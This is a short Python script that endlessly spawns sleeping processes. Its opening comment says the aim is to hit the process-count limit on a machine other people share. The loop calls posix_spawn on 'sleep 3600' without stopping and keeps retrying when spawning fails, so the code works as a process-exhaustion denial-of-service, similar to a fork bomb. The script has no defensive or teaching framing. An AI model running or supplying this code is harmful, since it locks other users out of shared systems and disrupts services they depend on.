# Starts processes without end. They are small and sleep: what meets a limit is their number, on a machine that others use.
import os
import time

while True:
    try:
        os.posix_spawn("/usr/bin/sleep", ["sleep", "3600"], {})
    except OSError:
        time.sleep(0.1)
